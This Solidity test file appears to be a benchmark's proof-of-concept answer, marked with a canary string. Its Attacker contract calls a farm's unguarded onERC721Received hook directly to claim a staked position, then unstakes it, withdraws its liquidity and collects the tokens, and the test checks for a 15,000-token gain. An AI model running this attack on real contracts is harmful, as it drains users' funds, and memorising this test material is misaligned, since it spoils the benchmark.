// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker {
    function run(PositionNotes notes, Farm farm, uint256 program, uint256 id) external {
        try farm.onERC721Received(address(this), address(this), id, abi.encode(program)) {
            farm.unstake(id);
            notes.decrease(id, notes.noteOf(id).liquidity, 0, 0, block.timestamp);
            notes.collect(id, address(this), type(uint128).max, type(uint128).max);
        } catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(notes, farm, program, 3);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 15_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(farm);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
